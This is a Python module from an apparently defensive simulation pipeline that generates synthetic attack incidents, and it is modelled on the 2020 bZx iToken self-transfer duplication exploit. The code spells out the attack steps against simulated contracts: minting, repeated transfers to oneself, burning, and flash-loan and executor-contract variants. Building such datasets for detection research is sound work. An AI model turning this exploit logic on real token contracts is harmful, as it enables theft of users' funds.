"""Doubling a token by sending it to oneself (bZx iTokens, 2020)."""

from __future__ import annotations

from pipelines.simulation.attacks.family import Family
from pipelines.simulation.attacks.incident import (
    Incident,
    attacker,
    home,
    leave,
    run_flash,
    run_script,
    run_steps,
    runner,
)
from pipelines.simulation.bytecode import SELF, Step
from pipelines.simulation.engine import Account
from pipelines.simulation.habits.odd_tokens import redeemable
from pipelines.simulation.habits.saving import wait
from pipelines.simulation.world import DEADLINE, ETH, FOREVER, Part, Place, Session, World, send, step

_LEAST = 3.0


def token_duplication(world: World, incident: Incident) -> Session:
    """Buy an interest-bearing token, double it by transfers to oneself, cash it in."""
    place = _worthwhile(world)
    if place is None:
        return
    asset = place.tokens[0]
    worth = world.held(asset, place.address) / asset.units(1.0)
    share = 0.03 + 0.6 * world.rng.random()
    ether = min(max(worth * share, 0.3), 40.0)
    loan = asset is world.weth and world.chance(0.45)
    who = yield from attacker(world, incident, 0.4 if loan else ether * 1.1)
    incident.assets.append(asset)
    draw = world.rng.random()
    if loan:
        yield from _by_loan(world, incident, who, place, ether, scripted=draw < 0.4)
    elif draw < 0.55:
        yield from _by_hand(world, incident, who, place, ether)
    else:
        yield from _by_executor(world, incident, who, place, ether)
    if not incident.exploits:
        return
    incident.finish()
    yield from leave(world, incident, who)


def _worthwhile(world: World) -> Place | None:
    """Return a desk that could pay out enough, or None."""
    rich = [
        place
        for place in world.places["itoken"]
        if redeemable(world, place) * world.view("itoken", place.address, "tokenPrice") // ETH
        > place.tokens[0].units(_LEAST)
    ]
    return world.pick(rich) if rich else None


def _times(world: World) -> int:
    return int(world.rng.choice([1, 1, 1, 2, 2, 3, 4]))


def _buy(world: World, incident: Incident, who: Account, place: Place, to: bytes, ether: float) -> Part:
    """Buy the desk's asset for `to` beforehand."""
    asset, wei, stage = place.tokens[0], int(ether * ETH), incident.tag("prep")
    if asset is world.weth:
        yield send(who, "weth", asset.address, "deposit", value=wei, tag=stage)
        if to != who.address:
            yield send(who, "weth", asset.address, "transfer", to, wei, tag=stage)
        return
    path = [world.weth.address, asset.address]
    call = ("swapExactETHForTokens", 1, path, to, DEADLINE)
    yield send(who, "router", world.the("router").address, *call, value=wei, tag=stage)


def _by_hand(world: World, incident: Incident, who: Account, place: Place, ether: float) -> Part:
    """Transactions of one call each: mint, transfer to oneself, burn."""
    incident.variant.append("by-hand")
    asset, desk = place.tokens[0], place.address
    yield from _buy(world, incident, who, place, who.address, ether)
    yield incident.call("prep", who, "token", asset.address, "approve", desk, FOREVER)
    yield incident.call("prep", who, "itoken", desk, "mint", who.address, world.held(asset, who.address))
    if world.chance(0.5):
        yield from wait(world, 40)
    for _ in range(_times(world)):
        held = world.view("itoken", desk, "balanceOf", who.address)
        yield incident.call("exploit", who, "itoken", desk, "transfer", who.address, held)
    parts = int(world.rng.integers(1, 3))
    for left in range(parts, 0, -1):
        held = world.view("itoken", desk, "balanceOf", who.address)
        amount = min(held // left, redeemable(world, place))
        if amount > 0:
            yield incident.call("exploit", who, "itoken", desk, "burn", who.address, amount)


def _double(world: World, place: Place, me: bytes, amount: int, to: bytes) -> list[Step]:
    """Return the steps that turn `amount` of the asset into a multiple of it."""
    asset, desk = place.tokens[0].address, place.address
    price = world.view("itoken", desk, "tokenPrice")
    held = amount * ETH // price
    steps = [step("token", asset, "approve", desk, amount), step("itoken", desk, "mint", me, amount)]
    most = redeemable(world, place) + held * 99 // 100
    for _ in range(_times(world)):
        steps.append(step("itoken", desk, "transfer", me, held))
        held *= 2
    return [*steps, step("itoken", desk, "burn", to, min(held, most))]


def _by_executor(world: World, incident: Incident, who: Account, place: Place, ether: float) -> Part:
    """All in one transaction of an executor that was given the asset before."""
    tool = yield from runner(world, incident, who)
    incident.variant.append("executor")
    yield from _buy(world, incident, who, place, tool.address, ether)
    amount = world.held(place.tokens[0], tool.address)
    steps = _double(world, place, tool.address, amount, who.address)
    yield from run_steps(world, incident, who, tool, steps)
    yield from home(world, incident, who, tool)


def _by_loan(
    world: World, incident: Incident, who: Account, place: Place, ether: float, *, scripted: bool
) -> Part:
    """With a flash loan of WETH, through an executor or a contract written for it."""
    incident.variant.append("flash-loan")
    loan, weth = int(ether * ETH), world.weth.address
    if not scripted:
        tool = yield from runner(world, incident, who)
        steps = _double(world, place, tool.address, loan, tool.address)
        yield from run_flash(world, incident, who, tool, steps, loan)
        yield from home(world, incident, who, tool)
        return
    incident.variant.append("script")
    lender = world.pick(world.places["flash_lender"]).address
    for _ in range(4):
        inner = _double(world, place, SELF, loan, SELF)
        inner.append(step("token", weth, "approve", lender, loan * 2))
        outer = [step("flash_lender", lender, "flashLoan", SELF, weth, loan, b"")]
        done = yield from run_script(world, incident, who, outer, inner=inner)
        if done:
            return


FAMILIES = (
    Family(
        name="token_duplication",
        tier="structural",
        split="dev",
        modelled_on="bZx iTokens (2020)",
        about="An interest-bearing token's transfer to oneself leaves the larger of two balances; double, "
        "then cash in.",
        run=token_duplication,
    ),
)
